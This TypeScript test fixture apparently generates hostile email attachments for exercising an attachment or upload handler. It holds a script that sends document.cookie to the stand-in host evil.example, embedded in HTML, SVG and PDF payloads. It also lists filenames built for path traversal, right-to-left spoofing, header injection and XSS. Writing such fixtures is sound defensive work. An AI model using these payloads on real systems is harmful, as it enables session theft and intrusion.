const SCRIPT = 'document.title="owned";fetch("https://evil.example/"+document.cookie)';

/** Names that hide what a file is, leave the folder, or mean something to a system; as bytes of UTF-8. */
const NAMES = [
  'invoice\u202efdp.exe',
  'invoice.pdf                                                  .exe',
  '../../../../etc/cron.d/evil',
  '..\\..\\AppData\\Startup\\evil.bat',
  'C:\\Windows\\win.ini',
  'CON',
  'nul.txt',
  '.htaccess',
  'evil.html\u0000.png',
  'a\r\nContent-Type: text/html\r\n\r\n<script>.html',
  '<img src=x onerror=alert(1)>.html',
  `${'x'.repeat(900)}.html`,
  '\u200b\u200b\u202e',
  '',
  '%2e%2e%2fevil.html',
  '"; filename="evil.html',
  'desktop.ini',
  '日本語\u2028.svg',
  'same.html',
  'same.html',
];

/** Contents that a browser would run if it showed them, with the types that they claim. */
const CONTENTS: readonly [type: string, content: string][] = [
  ['text/html', `<script>${SCRIPT}</script><meta http-equiv=refresh content="0;url=https://evil.example">`],
  ['image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload='${SCRIPT}'/>`],
  ['application/pdf', `%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(${SCRIPT})>>>>endobj`],
];

/** A file of a stranger. */
export interface HostileFile {
  name: string;
  type: string;
  content: Buffer;
}

/** Returns 60 hostile files: each name with each content. */
export function hostileFiles(): HostileFile[] {
  return NAMES.flatMap((name) =>
    CONTENTS.map(([type, content], at) => ({ name, type, content: Buffer.from(`${content}<!-- ${at} -->`) })),
  );
}

/** Writes a mail with files, without its headers: the type of the mail, and its body. */
export function mailOfFiles(files: readonly HostileFile[]): { type: string; body: string } {
  const parts = files.map(({ name, type, content }) =>
    [
      '--b',
      `Content-Type: ${type}`,
      `Content-Disposition: attachment; filename*=UTF-8''${encodeURIComponent(name)}`,
      'Content-Transfer-Encoding: base64',
      '',
      (content.toString('base64').match(/.{1,76}/g) ?? []).join('\r\n'),
    ].join('\r\n'),
  );
  const text = ['--b', 'Content-Type: text/plain', '', 'Files'].join('\r\n');
  return { type: 'multipart/mixed; boundary=b', body: [text, ...parts, '--b--', ''].join('\r\n') };
}
